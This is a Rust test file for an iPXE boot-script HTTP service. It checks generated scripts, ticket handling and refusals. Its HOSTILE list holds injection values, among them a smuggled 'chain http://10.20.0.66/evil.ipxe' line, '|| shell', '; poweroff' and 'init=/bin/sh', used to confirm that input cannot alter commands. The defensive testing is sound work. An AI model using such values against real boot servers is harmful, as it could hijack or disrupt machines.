//! Every script, whole, as a machine gets it; refreshed with `UPDATE_EXPECTED=1`.
#![allow(clippy::unwrap_used, missing_docs)]

mod boot_world;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use boot_world::{ADDRESS, MAC, SERVICE, World, count};
use domain::MacAddr;
use domain::node::Known;
use domain::order::{Order, OrderKind};
use domain::site::{Site, Unknown};
use domain::{NodeId, OrderId};
use http_body_util::BodyExt;
use proptest::prelude::*;
use pxe::files::{KERNEL, RAMDISK};
use pxe::http::{BootHttp, Counts, Here, Peer, router};
use std::net::Ipv4Addr;
use std::path::Path;
use std::sync::Arc;
use tower::ServiceExt;
use uuid::Uuid;

const OTHER: Ipv4Addr = Ipv4Addr::new(10, 20, 0, 101);
const OTHER_MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0, 0, 2]);
const USUAL: &str = "/ipxe?mac=52-54-00-12-34-56&uuid=f81d4fae-7dec-11d0-a765-00a0c91e6bf6&arch=i386&platform=pcbios&serial=VM-0001";
const STRANGER: &str = "/ipxe?mac=52-54-00-12-34-56&uuid=&arch=i386&platform=pcbios&serial=VM-0009";

struct Appliance {
    world: World,
    http: BootHttp,
}

impl Appliance {
    async fn new(unknown: Unknown) -> Self {
        let world = World::new(unknown).await;
        world.files.insert_bytes(KERNEL, vec![1]);
        world.files.insert_bytes(RAMDISK, vec![2]);
        let here = Here { address: SERVICE, http_port: 80, agents_port: 8444, pin: "0123456789abcdef".repeat(4) };
        let http = BootHttp {
            boots: world.boots.clone(),
            leases: world.leases.clone(),
            directory: world.directory.clone(),
            site: world.site.subscribe(),
            clock: world.clock.clone(),
            files: world.files.clone(),
            counts: Arc::<Counts>::default(),
            here,
        };
        Self { world, http }
    }

    /// With one machine that has an address.
    async fn with_machine(unknown: Unknown) -> Self {
        let appliance = Self::new(unknown).await;
        appliance.world.boots_up(MAC);
        appliance.world.leases_to(MAC, ADDRESS).await;
        appliance
    }

    async fn get(&self, from: Ipv4Addr, target: &str) -> (StatusCode, String) {
        let mut request = Request::get(target).body(Body::empty()).unwrap();
        request.extensions_mut().insert(Peer((from, 4711).into()));
        let response = router(self.http.clone()).oneshot(request).await.unwrap();
        let status = response.status();
        let body = response.into_body().collect().await.unwrap().to_bytes();
        (status, String::from_utf8(body.to_vec()).unwrap())
    }

    async fn script(&self, from: Ipv4Addr, target: &str) -> String {
        let (status, text) = self.get(from, target).await;
        assert_eq!(status, StatusCode::OK, "{text}");
        assert!(text.starts_with("#!ipxe\n"), "{text}");
        text
    }

    /// A counter.
    fn count(&self, name: &str) -> u64 {
        count(&self.http.counts.pairs(), name)
    }

    /// The ticket and the boot of a script are replaced by their names, being new each time.
    fn settled(&self, mut text: String) -> String {
        for name in ["ticket", "boot"] {
            if let Some(value) = value_of(&text, name) {
                text = text.replace(&value, &format!("<{name}>"));
            }
        }
        text
    }
}

fn value_of(script: &str, name: &str) -> Option<String> {
    let (_, rest) = script.split_once(&format!("overture.{name}="))?;
    Some(rest.split_whitespace().next()?.to_owned())
}

fn check(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/expected").join(name);
    if std::env::var_os("UPDATE_EXPECTED").is_some() {
        std::fs::write(&path, text).unwrap();
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(text, expected, "{name} differs: if that is meant, run the test again with UPDATE_EXPECTED=1");
}

#[tokio::test]
async fn the_first_script_is_the_same_for_all() {
    let appliance = Appliance::new(Unknown::Ignore).await;
    let text = appliance.script(OTHER, "/boot.ipxe").await;
    check("boot.ipxe", &text);
    assert_eq!(appliance.script(ADDRESS, "//boot.ipxe?x=1").await, text);
}

#[tokio::test]
async fn a_machine_is_sent_to_the_ramdisk_with_a_ticket() {
    let appliance = Appliance::with_machine(Unknown::Ignore).await;
    let text = appliance.script(ADDRESS, USUAL).await;
    check("discover.ipxe", &appliance.settled(text.clone()));
    let ticket = value_of(&text, "ticket").unwrap();
    assert_eq!(ticket.len(), 32);
    assert_eq!(value_of(&text, "boot"), appliance.world.boots.of(MAC).map(|boot| boot.id.to_string()));
    assert_eq!(appliance.script(ADDRESS, USUAL).await, text, "asked again, the same machine gets the same");
    let notes = appliance.world.notes();
    assert!(notes.iter().all(|note| !note.contains(&ticket)), "{notes:?}");
    assert_eq!(
        notes[..2],
        [
            "script: asked for its boot script from 10.20.0.100 with serial VM-0001 (iPXE for i386, pcbios) — \
             the site declares this machine as `w1`, and it is in stage discovered",
            "ticket: 10.20.0.100 was given this boot's ticket and the discovery ramdisk — \
             the site declares this machine as `w1`, and it is in stage discovered"
        ]
    );
    assert_eq!((appliance.count("scripts"), appliance.count("tickets")), (2, 2));
}

#[tokio::test]
async fn other_ports_are_written_out() {
    let mut appliance = Appliance::with_machine(Unknown::Discover).await;
    appliance.http.here.http_port = 8080;
    appliance.http.here.agents_port = 18_444;
    let text = appliance.script(ADDRESS, STRANGER).await;
    check("discover_stranger_other_ports.ipxe", &appliance.settled(text));
}

#[tokio::test]
async fn without_a_ramdisk_the_machine_waits_and_gets_no_ticket() {
    let appliance = Appliance::with_machine(Unknown::Discover).await;
    appliance.world.files.insert_file(RAMDISK, "/nowhere/ramdisk");
    let text = appliance.script(ADDRESS, USUAL).await;
    check("no_ramdisk.ipxe", &text);
    assert_eq!(appliance.count("tickets"), 0);
    appliance.world.noted("run `overture ramdisk build`").await;
}

#[tokio::test]
async fn the_local_disk_is_started_where_the_network_or_the_operator_says_so() {
    let appliance = Appliance::with_machine(Unknown::LocalDisk).await;
    let text = appliance.script(ADDRESS, STRANGER).await;
    check("local_disk_by_network.ipxe", &text);

    let appliance = Appliance::with_machine(Unknown::Discover).await;
    let order =
        Order { id: OrderId(Uuid::from_u128(1)), kind: OrderKind::LocalDisk, given: appliance.world.clock.now(), taken: None, test: None };
    let known = Known { id: NodeId(Uuid::from_u128(2)), label: "w1".into(), identity: Default::default(), order: Some(order) };
    *appliance.world.directory.0.lock().unwrap() = Some(known);
    let text = appliance.script(ADDRESS, USUAL).await;
    check("local_disk_by_order.ipxe", &text);
    assert_eq!(appliance.count("tickets"), 0);
}

#[tokio::test]
async fn an_ignored_machine_is_told_so() {
    let appliance = Appliance::with_machine(Unknown::Ignore).await;
    check("nothing.ipxe", &appliance.script(ADDRESS, STRANGER).await);
}

#[tokio::test]
async fn a_machine_that_did_no_dhcp_here_gets_no_ticket() {
    let appliance = Appliance::new(Unknown::Discover).await;
    check("refused_no_boot.ipxe", &appliance.script(ADDRESS, USUAL).await);
    assert_eq!(appliance.count("tickets_refused"), 1);
}

#[tokio::test]
async fn nobody_gets_the_script_of_another_machine() {
    let appliance = Appliance::with_machine(Unknown::Discover).await;
    appliance.world.leases_to(OTHER_MAC, OTHER).await;
    let text = appliance.script(OTHER, USUAL).await;
    check("refused_not_its_address.ipxe", &text);
    assert_eq!(appliance.count("tickets"), 0);
    appliance.world.noted("got no boot script: the script was asked for from 10.20.0.101").await;
    assert!(value_of(&appliance.script(ADDRESS, USUAL).await, "ticket").is_some(), "the machine itself is not disturbed");
}

#[tokio::test]
async fn a_second_reader_is_refused() {
    let appliance = Appliance::with_machine(Unknown::Discover).await;
    appliance.script(ADDRESS, USUAL).await;
    appliance.world.leases_to(MAC, OTHER).await;
    check("refused_second_reader.ipxe", &appliance.script(OTHER, USUAL).await);
}

#[tokio::test]
async fn a_ticket_that_cannot_be_kept_is_not_given() {
    let appliance = Appliance::with_machine(Unknown::Discover).await;
    appliance.world.store.broken.store(true, std::sync::atomic::Ordering::Relaxed);
    check("refused_store.ipxe", &appliance.script(ADDRESS, USUAL).await);
}

#[tokio::test]
async fn an_address_of_no_network_is_told_so() {
    let appliance = Appliance::with_machine(Unknown::Discover).await;
    check("refused_no_network.ipxe", &appliance.script(Ipv4Addr::new(192, 168, 7, 7), USUAL).await);
    appliance.world.site.send_replace(Arc::new(Site::default()));
    appliance.script(ADDRESS, USUAL).await;
    assert_eq!(appliance.count("strangers"), 2);
}

#[tokio::test]
async fn a_question_without_a_mac_address_is_a_400_in_words() {
    let appliance = Appliance::with_machine(Unknown::Discover).await;
    for target in [
        "/ipxe",
        "/ipxe?mac=",
        "/ipxe?mac=${net0/mac}".replace(['$', '{', '}'], "x").as_str(),
        "/ipxe?mac=%0ashell",
        "/ipxe?mac=ffffffffffff",
    ] {
        let (status, text) = appliance.get(ADDRESS, target).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{target}");
        assert!(text.contains("address") && text.lines().count() == 1, "{text:?}");
    }
    assert_eq!(appliance.count("malformed_asks"), 5);
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// What iPXE would act on: the lines without the text behind `echo Overture:`.
fn commands(script: &str) -> Vec<&str> {
    script.lines().map(|line| if line.starts_with("echo Overture: ") { "echo" } else { line }).collect()
}

const HOSTILE: [&str; 10] = [
    "x\nshell",
    "x\r\nchain http://10.20.0.66/evil.ipxe",
    "${net0/mac}",
    "x || shell",
    "x && reboot",
    "x ; poweroff",
    "x # comment",
    "{{ 7 * 7 }}{% include \"again.ipxe\" %}",
    "x overture.url=https://10.20.0.66 init=/bin/sh",
    "\u{2028}\u{202e}\u{0}\u{1b}[2J",
];

#[tokio::test]
async fn hostile_values_change_no_command_of_any_script() {
    for (unknown, ramdisk, boots) in [
        (Unknown::Discover, true, true),
        (Unknown::Discover, false, true),
        (Unknown::Discover, true, false),
        (Unknown::LocalDisk, true, true),
        (Unknown::Ignore, true, true),
    ] {
        let appliance = if boots { Appliance::with_machine(unknown).await } else { Appliance::new(unknown).await };
        if !ramdisk {
            appliance.world.files.insert_file(RAMDISK, "/nowhere");
        }
        let harmless = appliance.script(ADDRESS, STRANGER).await;
        for value in HOSTILE {
            let value = percent(value);
            let target = format!("/ipxe?mac=525400123456&uuid={value}&arch={value}&platform={value}&serial={value}");
            let script = appliance.script(ADDRESS, &target).await;
            assert_eq!(commands(&script), commands(&harmless));
            for line in script.lines().filter(|line| line.starts_with("echo ")) {
                assert!(!line.contains(['$', '{', '}', '|', '&', ';', '#']), "{line:?}");
                assert!(line.bytes().all(|b| b.is_ascii_graphic() || b == b' '), "{line:?}");
            }
        }
        let notes = appliance.world.notes();
        assert!(notes.iter().all(|note| !note.contains(char::is_control)), "{notes:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn no_serial_changes_a_command(serial: String) {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async {
            let appliance = Appliance::with_machine(Unknown::LocalDisk).await;
            let harmless = appliance.script(ADDRESS, STRANGER).await;
            let target = format!("/ipxe?mac=525400123456&serial={}", percent(&serial.chars().take(60).collect::<String>()));
            let script = appliance.script(ADDRESS, &target).await;
            assert_eq!(commands(&script), commands(&harmless));
        });
    }
}
